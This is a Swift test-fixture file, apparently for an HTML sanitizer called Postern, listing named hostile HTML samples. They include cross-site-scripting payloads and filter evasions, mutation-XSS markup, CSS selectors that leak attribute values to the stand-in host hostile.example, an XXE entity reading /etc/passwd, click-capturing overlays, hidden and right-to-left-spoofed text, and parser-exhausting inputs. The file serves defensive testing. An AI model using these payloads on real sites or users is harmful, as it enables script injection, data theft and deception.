/// HTML that wants to run, load, hide, lie over something else or break what reads it; written for Postern's tests.
///
/// The ideas are those of the OWASP cheat sheets on cross-site scripting and on evading filters for it, of work on mutation
/// (markup that becomes another when it is written out and read again), and of style sheets that tell what a page says.
/// Whatever fires calls `fired()` or asks for an address at `hostile.example`.
public enum HostileHTML {
  /// By a name that says what it is.
  public static let pages: [String: String] = [
    // Scripts and events.
    "script": "<p>A</p><script>fired()</script><script src=http://hostile.example/a.js></script>",
    "script without an end": "before<script>fired()",
    "script in pieces": "<scr<script>ipt>fired()</scr</script>ipt>B",
    "event": "<img src=x onerror=fired()><body onload=fired()><div onmouseover='fired()'>C</div>",
    "event after a slash": "<img/src=x/onerror=fired()//><svg/onload=fired()>",
    "event in capitals": "<IMG SRC=x oNeRrOr=\"fired()\"><DETAILS OPEN ONTOGGLE=fired()>D</DETAILS>",
    "event behind a line feed": "<img src=x onerror\n=\nfired()><a\nonfocus=fired() autofocus tabindex=1>E</a>",
    "event by animation": "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=fired()>F</b>",
    "event in a quotation mark": "<img alt=\"`\" src=\"x` onerror=fired()//\" title='\" onerror=fired() x=\"'>",
    "javascript address":
      "<a href=\"javascript:fired()\">G</a><a href=\"jav&#x09;ascript:fired()\">g</a><a href=' &#14; javascript:fired()'>h</a>",
    "data address":
      "<iframe src=\"data:text/html,<script>parent.fired()</script>\"></iframe><object data=\"data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+\"></object>",
    "frame with its own page": "<iframe srcdoc=\"<script>parent.fired()</script>\"></iframe>",
    "form":
      "<form action=http://hostile.example/f id=location name=cookie><input name=body autofocus onfocus=fired()><button formaction=javascript:fired()>H</button></form>",
    "marquee and media":
      "<marquee onstart=fired()>I</marquee><video src=http://hostile.example/v onerror=fired() autoplay></video><audio src=x onerror=fired()>",
    "meta and base":
      "<meta http-equiv=refresh content='0;url=http://hostile.example/m'><base href=http://hostile.example/><link rel=stylesheet href=/s.css><link rel=prefetch href=/p><link rel=dns-prefetch href=http://hostile.example>",
    "embedded things":
      "<embed src=http://hostile.example/e><applet code=x></applet><portal src=http://hostile.example/o></portal><frameset><frame src=http://hostile.example/f></frameset>",
    "names that shadow":
      "<p id=getElementById name=forms>J</p><img name=fired id=fired><form name=body><input id=attributes></form>",
    // Loading.
    "pictures":
      "<img src=http://hostile.example/1.png srcset=\"http://hostile.example/2.png 2x\" lowsrc=http://hostile.example/3 dynsrc=http://hostile.example/4><picture><source srcset=http://hostile.example/5></picture><input type=image src=http://hostile.example/6><image src=http://hostile.example/7><body background=http://hostile.example/8><table background=http://hostile.example/9><tr><td background=http://hostile.example/10>K</table>",
    "pictures of the mail":
      "<img src=cid:logo@mail alt='Our logo'><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\"> L",
    "styles that load":
      "<div style=\"background:url(http://hostile.example/b)\">M</div><p style='background-image:url(\"http://hostile.example/c\");list-style:url(http://hostile.example/d);cursor:url(http://hostile.example/e),auto;content:url(http://hostile.example/f)'>m</p>",
    "style sheets that load":
      "<style>@import 'http://hostile.example/i.css';@font-face{font-family:x;src:url(http://hostile.example/x.woff)}body{font-family:x;background:url(http://hostile.example/y)}</style>N",
    "styles that tell":
      "<style>input[value^=a]{background:url(http://hostile.example/a)}td[title*=secret]{background:url(http://hostile.example/s)}#x:has(b){--y:url(http://hostile.example/h)}</style><input value=abc><table><tr><td title=secret>O</table>",
    "styles that run":
      "<div style=\"width:expression(fired());behavior:url(#x);-moz-binding:url(http://hostile.example/m)\">P</div>",
    "escapes in a style":
      "<div style=\"background:\\75\\72\\6c(http://hostile.example/q);color:red;/*\"/>x\" style=\"*/background:ur/**/l(http://hostile.example/r)\">Q</div>",
    "style that breaks out":
      "<div style=\"color:red}</style><script>fired()</script>{\">R</div><font color='red}</style><script>fired()</script>'>r</font>",
    "style attribute of many": "<p style=\"" + String(repeating: "color:red;", count: 5_000) + "\">S</p>",
    // Lying over something else, hiding.
    "overlay":
      "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9;background:#fff;opacity:0.9\">T</div><a style=\"position:absolute;inset:0\" href=https://hostile.example/>t</a>",
    "moved text":
      "<span style=\"position:relative;left:-9999px;transform:scale(40);margin:-500px;float:left\">U</span><div style='zoom:99;columns:50'>u</div>",
    "hidden text":
      "<div style=\"display:none\">unseen1</div><span style=\"color:#ffffff\">unseen2</span><font size=1 style='font-size:0'>unseen3</font><p hidden>unseen4</p>V",
    "nearly hidden text":
      "<p style=\"color:#fafafa;font-size:2px\">W</p><table bgcolor=#000000><tr><td><font color=#111111>w</font></table>",
    // Markup that becomes another.
    "namespaces":
      "<svg><p><style><img src=x onerror=fired()></style></svg><math><mtext><table><mglyph><style><img src=x onerror=fired()></style></table></mtext></math>X",
    "nested namespaces":
      "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=fired() src>\"></mtext></svg></mglyph></mtext></math>Y",
    "svg":
      "<svg><script>fired()</script><use href=http://hostile.example/u#x><animate attributeName=href values=javascript:fired() /><a xlink:href=javascript:fired()><text>Z</text></a><foreignObject><body onload=fired()></foreignObject></svg>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=fired()>\">AA</noscript>",
    "template":
      "<template><img src=x onerror=fired()></template><template shadowrootmode=open><script>fired()</script></template>BB",
    "raw text":
      "<textarea><img src=x onerror=fired()></textarea><title><img src=x onerror=fired()></title><xmp><img src=x onerror=fired()></xmp><noembed><img src=x onerror=fired()></noembed><noframes><img src=x onerror=fired()></noframes>CC",
    "plaintext": "DD<plaintext><img src=x onerror=fired()></plaintext><script>fired()</script>",
    "comments":
      "<!--><img src=x onerror=fired()>--><!--[if gte IE 4]><script>fired()</script><![endif]--><!-- --!><img src=x onerror=fired()> EE<!",
    "cdata and instructions":
      "<![CDATA[<img src=x onerror=fired()>]]><?php fired() ?><?xml-stylesheet href=http://hostile.example/x?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;FF",
    "select": "<select><style></select><img src=x onerror=fired()></style></select><option>GG</option>",
    "fostered": "<table>HH<tr>II<script>fired()</script><td>JJ<table><div>KK</table></tr>LL<form><input></table>",
    "broken nesting": "<b><p><i></b>MM</p></i><table><b><tr><td></b>NN</td><li>OO<tr><ul>PP<td><dl><dd>QQ</table></ul>",
    "links in links":
      "<a href=http://hostile.example/1><a href=http://hostile.example/2><table><a href=http://hostile.example/3>RR</table></a></a>",
    // What breaks readers.
    "zero bytes": "<scr\0ipt>fired()</script><im\0g src=x on\0error=fired()>SS\0",
    "broken markup": "<<<>< p><a b='c\"d>TT</a b=\"'><img src=x' onerror=fired()//<b<i<u>UU</",
    "entities":
      "&lt;script&gt;fired()&lt;/script&gt;&#60;img src=x onerror=fired()&#62;&#x3C;b&#x3E;&nbsp;&amp;amp;&NotAnEntity;&#xD800;&#x110000;&#0; VV",
    "direction":
      "<p>photo\u{202E}gpj.exe\u{202C} <bdo dir=rtl>WW</bdo> \u{2067}x\u{2069} \u{200F}y</p><p dir=rtl>\u{645}\u{631}\u{62D}\u{628}\u{627}</p>",
    "long words": "<p>" + String(repeating: "W", count: 5_000) + "</p><h1>"
      + String(repeating: "\u{1F3EB}", count: 5_000) + "</h1>",
    "towers of marks": "<p>Z" + String(repeating: "\u{301}\u{35C}\u{334}", count: 400) + "algo</p>",
    "deep": String(repeating: "<div><b><table><tr><td>", count: 2_000) + "XX",
    "deep without an end": String(repeating: "<blockquote><ul><li><font color=red>", count: 3_000) + "YY"
      + String(repeating: "</font>", count: 3_000),
    "wide table": "<table><tr>" + String(repeating: "<td colspan=99999999 rowspan=65535>ZZ", count: 2_000) + "</table>",
    "many attributes": "<p " + (0..<3_000).map { "a\($0)=1" }.joined(separator: " ") + " onclick=fired()>AAA</p>",
    "many styles": (0..<3_000).map { "<span style='color:#\(String(0x100000 + $0 * 7, radix: 16))'>\($0)</span>" }
      .joined(),
    "much": String(
      repeating: "<p>Some words of a long letter, <b>again</b> and again &amp; again.</p>\n", count: 20_000),
  ]

  /// Words that stand in a page and may be seen by nobody, as a page's reader does not see them either.
  public static let unseen = ["unseen1", "unseen2", "unseen3", "unseen4", "fired()"]
}
